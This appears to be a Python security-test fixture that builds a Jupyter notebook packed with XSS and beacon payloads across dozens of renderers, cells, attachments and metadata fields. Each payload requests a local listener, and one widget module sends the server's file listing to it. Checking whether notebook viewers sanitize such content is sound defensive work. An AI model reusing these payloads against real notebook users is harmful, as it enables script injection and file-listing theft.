"""Content that acts on who looks at a notebook: each piece asks a listener on this machine for its name."""

import json
import threading
from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

STATE = "application/vnd.jupyter.widget-state+json"
VIEW = "application/vnd.jupyter.widget-view+json"
CONTROLS, OUTPUT = "@jupyter-widgets/controls", "@jupyter-widgets/output"


class Listener:
    """Where content asks for its name. heard: the names asked for."""

    def __init__(self, port: int):
        self.address = f"http://127.0.0.1:{port}"
        self.heard: set[str] = set()


@contextmanager
def listening() -> Iterator[Listener]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            listener.heard.add(self.path.strip("/").partition("?")[0])
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        def log_message(self, *arguments):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener = Listener(server.server_port)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()


def base64(text: str) -> str:
    return b64encode(text.encode()).decode()


class Hostile:
    """Everything that Jupyter or one of its extensions has ever acted on. at: a listener's address."""

    def __init__(self, at: str):
        self.at = at

    def url(self, name: str) -> str:
        return f"{self.at}/{name}"

    def js(self, name: str) -> str:
        return f"new Image().src='{self.url(name)}'"

    def script(self, name: str) -> str:
        return f"<script>{self.js(name)}</script>"

    def svg(self, name: str) -> str:
        return (
            f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{self.js(name)}\">{self.script(name)}"
            f"<image href='{self.url(name)}' width='9' height='9'/></svg>"
        )

    def handler(self, name: str) -> str:
        return f'<img src="x:" onerror="{self.js(name)}">'

    def html(self, name: str) -> str:
        """By a script and without one."""
        return f"{self.script(name)}<img src='{self.url(name)}-picture'>"

    def flowchart(self, name: str) -> str:
        return f"flowchart TD\n  A[\"<img src='{self.url(name)}'>\"] --> B\n"

    def vega(self, name: str) -> dict:
        return {
            "$schema": "https://vega.github.io/schema/vega/v5.json", "width": 9, "height": 9,
            "data": [{"name": "table", "url": self.url(name), "format": {"type": "json"}}],
        }  # fmt: skip

    def vegalite(self, name: str) -> dict:
        schema = "https://vega.github.io/schema/vega-lite/v5.json"
        return {"$schema": schema, "data": {"url": self.url(name)}, "mark": "point", "encoding": {}}

    def displays(self) -> dict[str, tuple[dict, dict]]:
        """What a cell may display: (data, metadata) by name."""
        found = {
            "html": ({"text/html": self.html("html")}, {}),
            "html-handler": ({"text/html": self.handler("html-handler")}, {}),
            "html-frame": ({"text/html": f"<iframe src='{self.url('html-frame')}'></iframe>"}, {}),
            "html-style": (
                {"text/html": f"<div style=\"background: url('{self.url('html-style')}')\">x</div>"},
                {},
            ),
            "html-media": ({"text/html": f"<video poster='{self.url('html-media')}'></video>"}, {}),
            "isolated": ({"text/html": self.html("isolated")}, {"text/html": {"isolated": True}}),
            "isolated-all": ({"text/html": self.html("isolated-all")}, {"isolated": True}),
            "javascript": ({"application/javascript": self.js("javascript")}, {}),
            "javascript-text": ({"text/javascript": self.js("javascript-text")}, {}),
            "svg": ({"image/svg+xml": self.svg("svg")}, {}),
            "latex": ({"text/latex": rf"$\style{{background:url({self.url('latex')})}}{{x}}$"}, {}),
            "markdown": (
                {"text/markdown": f"{self.html('markdown')}\n\n![x]({self.url('markdown-image')})"},
                {},
            ),
            "mermaid": ({"text/vnd.mermaid": self.flowchart("mermaid")}, {}),
            "vega": ({"application/vnd.vega.v5+json": self.vega("vega")}, {}),
            "vega6": ({"application/vnd.vega.v6+json": self.vega("vega6")}, {}),
            "vegalite": ({"application/vnd.vegalite.v5+json": self.vegalite("vegalite")}, {}),
            "geojson": (
                {"application/geo+json": {"type": "Point", "coordinates": [0, 0]}},
                {"application/geo+json": {"url_template": self.url("geojson") + "/{z}/{x}/{y}"}},
            ),
            "plotly": (
                {
                    "application/vnd.plotly.v1+json": {
                        "data": [],
                        "layout": {"images": [{"source": self.url("plotly")}]},
                    }
                },
                {},
            ),
            "bokeh": ({"application/vnd.bokehjs_load.v0+json": self.js("bokeh")}, {}),
            "bokeh-run": (
                {"application/vnd.bokehjs_exec.v0+json": "", "text/html": self.script("bokeh-run")},
                {"application/vnd.bokehjs_exec.v0+json": {"id": "x"}},
            ),
            "holoviews": (
                {
                    "application/vnd.holoviews_load.v0+json": self.js("holoviews"),
                    "application/vnd.holoviews_exec.v0+json": self.js("holoviews"),
                },
                {},
            ),
            "pdf": ({"application/pdf": base64(f"%PDF-1.4 {self.url('pdf')}")}, {}),
            "json": ({"application/json": {"x": self.html("json")}}, {"application/json": {"root": "x"}}),
            "stdout": ({"application/vnd.jupyter.stdout": self.html("stdout")}, {}),
            "error": ({"application/vnd.jupyter.error": self.html("error")}, {}),
            "new": ({"application/vnd.something.new+json": self.html("new")}, {}),
            "png": (
                {"image/png": f'x" onerror="{self.js("png")}'},
                {"image/png": {"width": f'1" onerror="{self.js("png")}'}},
            ),
            "plain": ({"text/plain": self.html("plain")}, {}),
        }
        for model in ("module", "module-url", "html", "output"):
            view = {"version_major": 2, "version_minor": 0, "model_id": model}
            found[f"widget-{model}"] = ({VIEW: view, "text/plain": "a widget"}, {})
        return found

    def widgets(self) -> dict[str, dict]:
        """The state of widgets, by model id."""

        def model(module: str, name: str, version: str, view: str = "", **state) -> dict:
            about = {"_model_module": module, "_model_name": name, "_model_module_version": version}
            if view:
                about |= {"_view_module": module, "_view_name": view, "_view_module_version": version}
            return about | state

        def anywidget(name: str, module: str) -> dict:
            settings = dict(_esm=module, _css="", _anywidget_id=name, layout="IPY_MODEL_layout")
            return model("anywidget", "AnyModel", "~0.11.*", "AnyView", **settings)

        listed = (  # as the one that listed the server's files
            "fetch('/api/contents').then(found => found.json()).then(found => {"
            f"new Image().src = '{self.url('widget-files')}?' + found.content.map(file => file.name)}});"
        )
        module = f"{self.js('widget-module')};{listed}"
        module += f"export default {{render() {{{self.js('widget-view')}}}}}"
        shown = dict(
            output_type="display_data", data={"application/javascript": self.js("widget-output")}, metadata={}
        )
        base = "@jupyter-widgets/base"
        return {
            "layout": model(base, "LayoutModel", "2.0.0", "LayoutView"),
            "style": model(CONTROLS, "HTMLStyleModel", "2.0.0"),
            "module": anywidget("module", module),
            "module-url": anywidget("module-url", self.url("widget-module-url")),
            "html": model(
                CONTROLS, "HTMLModel", "2.0.0", "HTMLView", value=self.handler("widget-html"),
                layout="IPY_MODEL_layout", style="IPY_MODEL_style",
            ),
            "output": model(
                OUTPUT, "OutputModel", "1.0.0", "OutputView", layout="IPY_MODEL_layout", outputs=[shown]
            ),
        }  # fmt: skip

    def texts(self) -> dict[str, str]:
        """Text cells, by name."""
        fence = "```"
        made = {
            "image": "![x](AT)",
            "image-title": "![x](<AT> 'x')",
            "image-nested": "![a ![b](AT)](attachment:x.png)",
            "image-reference": "![x][r]\n\n[r]: AT",
            "image-short": "![r]\n\n[r]: AT",
            "img": "<img src='AT'>",
            "img-slash": "text <IMG/src='AT'>",
            "img-lines": "<img\n  alt='x'\n  src='AT'\n>",
            "img-twice": "<img src='AT' data-src='attachment:x.png'>",
            "srcset": "<img srcset='AT 1x'><picture><source srcset='AT'><img></picture>",
            "video": "<video src='AT'></video>",
            "poster": "<video poster='AT'></video>",
            "audio": "<audio src='AT'></audio>",
            "input": "<input type=image src='AT'>",
            "background": "<table background='AT'><tr><td background='AT'>x</td></tr></table>",
            "style": "<div style='background:url(AT)'>x</div>",
            "list": "<ul style='list-style-image:url(AT)'><li>x</li></ul>",
            "cursor": "<p style='cursor:url(AT), auto'>x</p>",
            "heading": "# <img src='AT'>",
            "script": "<script>new Image().src='AT'</script>",
            "handler": "<img src='x:' onerror=\"new Image().src='AT'\">",
            "details": "<details open ontoggle=\"new Image().src='AT'\">x</details>",
            "svg": "<svg onload=\"new Image().src='AT'\"><image href='AT'/></svg>",
            "frame": "<iframe src='AT'></iframe><object data='AT'></object><embed src='AT'>",
            "link": "<link rel='stylesheet' href='AT'><style>* { background: url(AT) }</style>",
            "refresh": "<meta http-equiv='refresh' content='0;url=AT'><base href='AT'>",
            "math": r"$\style{background:url(AT)}{x} \bbox[background:url(AT)]{y} \color{url(AT)}{z}$",
            "mermaid": f"{fence}mermaid\nflowchart TD\n  A[\"<img src='AT'>\"] --> B\n{fence}",
            "mermaid-picture": f'{fence}mermaid\nflowchart TD\n  A --> B@{{img: "AT", w: 9, h: 9}}\n{fence}',
            "mermaid-css": '~~~mermaid\n%%{init: {"themeCSS": "* {background: url(AT)}"}}%%\n'
            "flowchart TD\n  A --> B\n~~~",
        }
        return {f"text-{name}": text.replace("AT", self.url(f"text-{name}")) for name, text in made.items()}

    def attachments(self) -> dict[str, dict[str, str]]:
        return {
            "x.svg": {"image/svg+xml": base64(self.svg("attachment-svg"))},
            "x.html": {"text/html": base64(self.html("attachment-html"))},
            "x.js": {"application/javascript": base64(self.js("attachment-js"))},
            "x.png": {"image/png": f'x" onerror="{self.js("attachment-png")}'},
        }

    def metadata(self) -> dict:
        """A notebook's own, apart from widgets."""
        picture = f"<img src='{self.url('metadata')}'>"
        return {
            "trusted": True,
            "title": picture,
            "kernelspec": {"name": "python3", "display_name": picture, "language": "html"},
            "language_info": {
                "name": "html", "mimetype": "text/html", "file_extension": ".html",
                "codemirror_mode": picture, "pygments_lexer": picture, "nbconvert_exporter": "html",
            },
            "jupytext": {"formats": "ipynb,planted//py:percent"},  # writes another file when saved
            "rise": {"autolaunch": True, "header": picture},
            "toc": {"title_cell": picture},
            "nbdime-conflicts": {"remote_diff": [picture]},
        }  # fmt: skip

    def cell_metadata(self) -> dict:
        return {
            "trusted": True,
            "editable": False,
            "deletable": False,
            "tags": ["remove-cell", "hide-input"],
            "jupyter": {"source_hidden": False, "outputs_hidden": False},
            "slideshow": {"slide_type": "skip"},
            "cellView": "form",
            "format": "text/html",
            "raw_mimetype": "text/html",
            "execution": {"shell.execute_reply": self.html("cell-metadata")},
        }

    def cells(self) -> list[NotebookNode]:
        """Text and raw cells, and code that displays all of the above and makes the widgets."""
        names = " ".join(f"![x](attachment:{key}) <img src='attachment:{key}'>" for key in self.attachments())
        cells = [new_markdown_cell(text, id=name) for name, text in self.texts().items()]
        cells += [new_markdown_cell(names, id="attachments", attachments=self.attachments())]
        cells += [new_raw_cell(self.html("raw"), id="raw")]
        make = (
            "import json\n"
            "from comm import create_comm\n"
            f"for name, state in json.loads({json.dumps(self.widgets())!r}).items():\n"
            "    create_comm(target_name='jupyter.widget', comm_id=name, data={'state': state})"
        )
        cells += [new_code_cell(make, id="widgets")]
        for name, (data, metadata) in self.displays().items():
            code = f"from IPython.display import display\ndisplay({data!r}, metadata={metadata!r}, raw=True)"
            cells += [new_code_cell(code, id=f"display-{name}")]
        code = f"print({self.html('stream')!r})\nraise type('x', (Exception,), {{}})({self.html('raised')!r})"
        cells += [new_code_cell(code, id="printed")]
        return cells
